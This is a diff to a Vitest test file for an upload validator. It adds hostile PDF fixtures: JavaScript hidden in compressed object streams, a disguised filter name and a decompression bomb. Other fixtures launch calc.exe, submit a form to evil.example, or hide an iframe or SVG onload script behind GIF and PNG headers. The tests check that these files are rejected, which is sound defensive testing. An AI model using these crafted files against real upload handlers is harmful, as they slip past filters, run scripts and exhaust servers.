@@ -1,8 +1,11 @@
+import { deflateSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { underAttack } from '../testing/attack.fixture.ts';
 import { PNG } from '../testing/checkout.fixture.ts';
 
 const attacked = underAttack();
+
+const SCRIPT = '4 0 <</S/JavaScript/JS(app.alert(1))>>';
 
 describe('media', () => {
   const svg = (inside: string, attributes = ''): string =>
@@ -36,6 +39,15 @@ describe('media', () => {
     ['a PDF that starts a program', 'x.pdf', pdf('<</S /Launch /F (calc.exe)>>')],
     ['a PDF that sends a form away', 'x.pdf', pdf('<</S/SubmitForm/F(https://evil.example/)>>')],
     ['a PDF with a form of its own', 'x.pdf', pdf('<</XFA 3 0 R>>')],
+    ['a PDF whose script lies packed', 'x.pdf', packedPdf('/FlateDecode', deflateSync(SCRIPT))],
+    ['a PDF whose packed script is in disguise', 'x.pdf', packedPdf('[/Flate#44ecode]', deflateSync(SCRIPT))],
+    ['a PDF packed in a way of its own', 'x.pdf', packedPdf('[/ASCIIHexDecode /FlateDecode]', '00')],
+    [
+      'a PDF that unpacks without end',
+      'x.pdf',
+      packedPdf('/FlateDecode', deflateSync(Buffer.alloc(70_000_000))),
+    ],
+    ['a PDF with a player of sounds', 'x.pdf', pdf('<</S/Rendition/JS(app.alert(1))>>')],
     ['a PDF with a player', 'x.pdf', pdf('<</Subtype/RichMedia>>')],
     ['a frame behind a GIF', 'x.gif', Buffer.concat([GIF, Buffer.from('<iframe src=//evil.example>')])],
     ['a picture of a page behind a PNG', 'x.png', Buffer.concat([PNG, Buffer.from('<svg onload=alert(1)>')])],
@@ -109,6 +121,12 @@ describe('media', () => {
     expect([400, 422]).toContain(status);
     attacked.expectUntouched();
   });
+
+  function packedPdf(filter: string, objects: Buffer | string): Buffer {
+    const start = `%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter ${filter}>>\nstream\n`;
+    const parts = [start, objects, '\nendstream\nendobj\n%%EOF\n'];
+    return Buffer.concat(parts.map((part) => Buffer.from(part as string)));
+  }
 
   function pdf(object: string): string {
     return `%PDF-1.7\n1 0 obj\n${object}\nendobj\n%%EOF\n`;
